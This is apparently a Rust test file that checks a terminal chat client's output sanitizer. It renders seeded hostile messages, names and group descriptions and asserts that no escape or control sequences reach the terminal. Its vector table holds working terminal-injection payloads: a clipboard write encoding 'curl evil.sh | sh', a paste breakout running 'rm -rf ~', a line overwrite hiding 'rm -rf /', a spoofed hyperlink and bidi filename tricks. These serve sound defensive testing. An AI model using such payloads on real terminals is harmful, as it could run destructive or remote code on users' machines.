//! The output firewall through the real views: a network of
//! hostile people, communities and 1,000 hostile messages goes through the same DTO → domain
//! conversion and `update` as the app, then every pane is drawn with ratatui's crossterm backend
//! at 80×24 and 160×48 while the selection walks through every thread and every message. The
//! bytes must hold only the sequences a renderer needs (`check_terminal_bytes`): no OSC at all (so
//! nothing server-derived inside one), no DCS/APC/PM/SOS, no C0 or C1 control.
//!
//! Hostile text: escape sequences from the sanitizer vectors plus seeded random mixes of escape
//! fragments, C0/C1 controls, bidi and invisible characters, combining runs and wide text. The
//! message count comes from `KRING_TEST_HOSTILE_MESSAGES` (default 1,000).

use crate::harness::tui;

use crate::harness::tui::draw;
use kring::api::dto::{self, MessagesEnvelope, Reference};
use kring::app::core::effect::{Effect, FeedPage};
use kring::app::core::global;
use kring::app::core::msg::{ApiMsg, Msg};
use kring::app::core::state::State;
use kring::app::core::update::update;
use kring::app::shell::view_state::ViewState;
use kring::config::theme::Theme;
use kring::domain::ThreadId;
use kring::domain::convert::{community, page_from_envelope, person};
use kring::input::action::Action;
use kring::panes::PaneId;
use kring::text::firewall::{check_terminal_bytes, render_to_bytes};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use tui::{answer_older_with_nothing, blank_state, message, user};

/// Messages per thread: a starter and its replies.
const THREAD_LENGTH: usize = 10;
const FIRST_USER: u64 = 100;
const USERS: u64 = 50;
const FIRST_GROUP: u64 = 1000;
const GROUPS: u64 = 12;
const SIZES: [(u16, u16); 2] = [(80, 24), (160, 48)];

fn message_count() -> usize {
    std::env::var("KRING_TEST_HOSTILE_MESSAGES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1000)
}

/// Inputs a terminal would act on, from the sanitizer's vector table.
const VECTORS: &[&str] = &[
    "\x1b[31mred\x1b[0m",
    "ok\x1b[1A\x1b[2Kforged",
    "\x1b[2J\x1b[H",
    "\x1b[?1000h",
    "a\x1b[?1049lb",
    "\x1b[201~rm -rf ~",
    "\x1b]0;pwned\x07after",
    "\x1b]2;pwned\x1b\\after",
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07",
    "\x1b]52;c;aGk=\u{9c}x",
    "\x1b]8;;https://evil.example\x1b\\bank.example\x1b]8;;\x1b\\",
    "hi\x1b]0;title and the rest\nline two",
    "\x1b]9;You have been hacked\x07",
    "\x1b]777;notify;t;b\x1b\\",
    "x\x07\x1b]0;pwn\x07",
    "\x1bP$qm\x1b\\x",
    "\x1bP1;1|payload",
    "\x1bXhidden\x1b\\shown",
    "\x1b^hidden\x07shown",
    "\x1b_Gf=100;AAAA\x1b\\shown",
    "\u{9b}2Jx",
    "\u{9d}0;t\u{9c}x",
    "\u{90}q\u{9c}x",
    "a\u{85}b",
    "abc\x1b",
    "\x1bcx",
    "\x1b(0lqk",
    "rm -rf /\rls -la",
    "secret\x08\x08\x08\x08\x08\x08public",
    "a\0b\x7fc\x0bd\x0ce",
    "user\u{202e}gnp.exe",
    "pay\u{200b}pal",
    "\u{feff}\u{2066}a\u{2069}\u{200e}",
    "hi\u{e0041}\u{e0042}",
    "a\u{2028}b\u{2029}c",
];

/// Pieces the random mixes are made of.
const FRAGMENTS: &[&str] = &[
    "\x1b",
    "\x1b[",
    "\x1b]",
    "\x1bP",
    "\x1b_",
    "\x1b^",
    "\x1bX",
    "\x1b\\",
    "\x07",
    "\u{9b}",
    "\u{9d}",
    "\u{9c}",
    "\u{90}",
    "\u{85}",
    "\r",
    "\n",
    "\t",
    "\x08",
    "\0",
    "\x7f",
    "\x1b]52;c;",
    "\x1b]0;",
    "\x1b]8;;",
    ";",
    "2J",
    "?1049l",
    "m",
    "\u{202e}",
    "\u{202d}",
    "\u{2067}",
    "\u{200b}",
    "\u{200d}",
    "\u{feff}",
    "\u{ad}",
    "\u{301}",
    "\u{e0001}",
    "日本語",
    "👨\u{200d}👩",
    "♻\u{fe0f}",
    " ",
    "word",
    "https://x.test/\x1b]0;t\x07",
];

fn hostile_text(rng: &mut StdRng, max_pieces: usize) -> String {
    if rng.random_bool(0.3) {
        return VECTORS[rng.random_range(0..VECTORS.len())].to_owned();
    }
    let mut text = String::new();
    for _ in 0..rng.random_range(1..=max_pieces) {
        match rng.random_range(0..10) {
            0 => text.push(char::from_u32(rng.random_range(0..0x3000)).unwrap_or('?')),
            1 => text.push_str(&"\u{300}".repeat(rng.random_range(1..60))),
            _ => text.push_str(FRAGMENTS[rng.random_range(0..FRAGMENTS.len())]),
        }
    }
    text
}

/// The hostile network as the API would send it.
struct Network {
    users: Vec<dto::User>,
    groups: Vec<dto::Group>,
    /// Each thread's messages, starter first.
    threads: Vec<Vec<dto::Message>>,
}

fn hostile_network(count: usize) -> Network {
    let mut rng = StdRng::seed_from_u64(0xf1_4e_aa);
    let users = (FIRST_USER..FIRST_USER + USERS)
        .map(|id| {
            let mut person = user(
                id,
                &hostile_text(&mut rng, 4),
                &hostile_text(&mut rng, 6),
                &hostile_text(&mut rng, 6),
            );
            person.web_url = format!("https://kring.test/{}", hostile_text(&mut rng, 3));
            person
        })
        .collect();
    let groups = (FIRST_GROUP..FIRST_GROUP + GROUPS)
        .map(|id| {
            let mut group = tui::group(id, &hostile_text(&mut rng, 5));
            group.description = hostile_text(&mut rng, 8);
            group
        })
        .collect();
    let threads = (0..count.div_ceil(THREAD_LENGTH))
        .map(|t| {
            let first = u64::try_from(t * THREAD_LENGTH).unwrap_or(0) + 1;
            let length = THREAD_LENGTH.min(count - t * THREAD_LENGTH);
            (0..length)
                .map(|i| {
                    let id = first + u64::try_from(i).unwrap_or(0);
                    let sender = FIRST_USER + rng.random_range(0..USERS);
                    let group = FIRST_GROUP + rng.random_range(0..GROUPS);
                    let replied_to = (i > 0).then(|| first + rng.random_range(0..id - first));
                    let age = i64::try_from(count).unwrap_or(0) - i64::try_from(id).unwrap_or(0);
                    let body = hostile_text(&mut rng, 40);
                    let mut m = message(id, first, sender, replied_to, Some(group), age, &body);
                    m.liked_by.count = rng.random_range(0..5);
                    m.liked_by.names = vec![dto::LikedByName {
                        user_id: Some(sender),
                        full_name: hostile_text(&mut rng, 4),
                        permalink: hostile_text(&mut rng, 2),
                    }];
                    m.web_url = format!("https://kring.test/m/{id}{}", hostile_text(&mut rng, 2));
                    m
                })
                .collect()
        })
        .collect();
    Network {
        users,
        groups,
        threads,
    }
}

impl Network {
    fn envelope(&self, messages: Vec<dto::Message>) -> MessagesEnvelope {
        let mut references: Vec<Reference> =
            self.users.iter().cloned().map(Reference::User).collect();
        references.extend(self.groups.iter().cloned().map(Reference::Group));
        references.extend(self.threads.iter().map(|thread| {
            Reference::Thread(dto::Thread {
                id: thread[0].id,
                thread_starter_id: Some(thread[0].id),
                group_id: thread[0].group_id,
                stats: dto::ThreadStats {
                    updates: u64::try_from(thread.len()).unwrap_or(0),
                    latest_reply_id: thread.last().map(|m| m.id).filter(|l| *l != thread[0].id),
                    ..dto::ThreadStats::default()
                },
                ..dto::Thread::default()
            })
        }));
        let mut envelope = MessagesEnvelope {
            messages,
            references,
            ..MessagesEnvelope::default()
        };
        envelope.meta.current_user_id = Some(FIRST_USER);
        envelope
    }

    /// My feed with `threaded=extended`: starters, newest thread first, two latest replies each.
    fn feed(&self) -> MessagesEnvelope {
        let starters = self.threads.iter().rev().map(|t| t[0].clone()).collect();
        let mut envelope = self.envelope(starters);
        for thread in &self.threads {
            let latest = thread.iter().skip(1).rev().take(2).cloned().collect();
            envelope
                .threaded_extended
                .insert(thread[0].id.to_string(), latest);
        }
        envelope
    }

    /// `in_thread/<id>`: newest first.
    fn thread(&self, id: u64) -> MessagesEnvelope {
        let messages = self
            .threads
            .iter()
            .find(|t| t[0].id == id)
            .map(|t| t.iter().rev().cloned().collect())
            .unwrap_or_default();
        self.envelope(messages)
    }
}

/// A state with the hostile network loaded, driven through `update` as the run loop does.
fn loaded(network: &Network) -> State {
    let mut state = blank_state(80, 24);
    for effect in global::start(&mut state) {
        let more = match effect {
            Effect::FetchCurrentUser => update(
                &mut state,
                Msg::Api(ApiMsg::CurrentUser(Ok(person(&network.users[0])))),
            ),
            Effect::FetchCommunities => {
                let list = network.groups.iter().map(community).collect();
                update(&mut state, Msg::Api(ApiMsg::Communities(Ok(list))))
            }
            Effect::FetchFeed {
                req,
                feed,
                page: FeedPage::Latest,
            } => update(
                &mut state,
                Msg::Api(ApiMsg::Feed {
                    req,
                    feed,
                    page: FeedPage::Latest,
                    result: Ok(page_from_envelope(&network.feed())),
                }),
            ),
            _ => Vec::new(),
        };
        answer_older_with_nothing(&mut state, &more);
    }
    state
}

fn open_thread(state: &mut State, network: &Network, thread: u64) {
    let effects = kring::app::core::route::open_thread(state, ThreadId(thread));
    for effect in effects {
        if let Effect::FetchThread { req, thread } = effect {
            let page = page_from_envelope(&network.thread(thread.0));
            update(
                state,
                Msg::Api(ApiMsg::Thread {
                    req,
                    thread,
                    result: Ok(page),
                }),
            );
        }
    }
    state.focus = PaneId::Thread;
}

/// Draws the state at every size through the firewall; returns how many frames and bytes.
fn check_frames(state: &mut State, view: &mut ViewState, theme: &Theme, what: &str) -> usize {
    let mut bytes_seen = 0;
    for (width, height) in SIZES {
        update(state, Msg::Resize { width, height });
        let bytes = render_to_bytes(width, height, |frame| draw(frame, state, view, theme))
            .expect("render into memory");
        if let Err(violation) = check_terminal_bytes(&bytes) {
            panic!(
                "{what} at {width}×{height}: {violation}\n{}",
                String::from_utf8_lossy(&bytes).escape_debug()
            );
        }
        bytes_seen += bytes.len();
    }
    bytes_seen
}

#[test]
fn hostile_timeline_and_threads_write_only_allowed_sequences() {
    let network = hostile_network(message_count());
    let theme = Theme::builtin_default();
    let mut state = loaded(&network);
    let mut view = ViewState::default();
    let mut drawn = 0;

    state.focus = PaneId::Communities;
    for _ in 0..GROUPS + 6 {
        drawn += check_frames(&mut state, &mut view, &theme, "communities");
        update(&mut state, Msg::Action(Action::MoveDown));
    }
    state.focus = PaneId::Timeline;
    for _ in 0..network.threads.len() {
        drawn += check_frames(&mut state, &mut view, &theme, "timeline");
        update(&mut state, Msg::Action(Action::MoveDown));
    }
    for thread in &network.threads {
        open_thread(&mut state, &network, thread[0].id);
        for _ in 0..thread.len() {
            drawn += check_frames(&mut state, &mut view, &theme, "thread");
            update(&mut state, Msg::Action(Action::MoveDown));
        }
    }
    assert!(drawn > 0);
}

#[test]
fn the_hostile_text_is_on_screen_made_visible() {
    let network = hostile_network(THREAD_LENGTH);
    let theme = Theme::builtin_default();
    let mut state = loaded(&network);
    open_thread(&mut state, &network, network.threads[0][0].id);
    let mut view = ViewState::default();
    let bytes = render_to_bytes(160, 48, |frame| draw(frame, &state, &mut view, &theme))
        .expect("render into memory");
    let text = String::from_utf8_lossy(&bytes);
    assert!(
        text.contains('␛') || text.contains("⟨U+"),
        "the sanitizer's markers show where hostile text was: {}",
        text.escape_debug()
    );
}

#[test]
fn a_title_payload_in_every_field_never_opens_an_osc() {
    let payload = "x\x07\x1b]0;pwn\x07\x1b]52;c;cHdu\x07";
    let mut network = hostile_network(THREAD_LENGTH);
    for person in &mut network.users {
        person.full_name = payload.to_owned();
        person.job_title = payload.to_owned();
    }
    for group in &mut network.groups {
        group.full_name = payload.to_owned();
    }
    for message in network.threads.iter_mut().flatten() {
        message.body.plain = payload.to_owned();
        message.body.parsed = payload.to_owned();
        message.body.rich = payload.to_owned();
    }
    let theme = Theme::builtin_default();
    let mut state = loaded(&network);
    let mut view = ViewState::default();
    check_frames(&mut state, &mut view, &theme, "timeline");
    open_thread(&mut state, &network, network.threads[0][0].id);
    check_frames(&mut state, &mut view, &theme, "thread");
}
